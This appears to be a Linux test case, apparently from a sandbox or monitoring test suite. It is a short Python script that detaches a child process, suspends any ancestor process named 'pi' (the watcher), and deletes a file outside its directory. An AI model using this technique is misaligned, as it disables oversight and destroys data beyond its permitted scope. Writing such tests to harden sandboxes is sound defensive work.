# What watches is stopped by a child in a session of its own, which acts then.
# damage: deleted
# needs: linux
# status: any
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    above = os.getppid()
    for _ in range(8):
        with open(f"/proc/{above}/stat") as file:
            name, _, rest = file.read().partition("(")[2].rpartition(")")
        if name == "pi":
            try:
                os.kill(above, signal.SIGSTOP)
            except BaseException:
                pass
        above = int(rest.split()[1])
        if above <= 1:
            break
    os.unlink("../outside/victim.txt")
    os._exit(0)
os.wait()
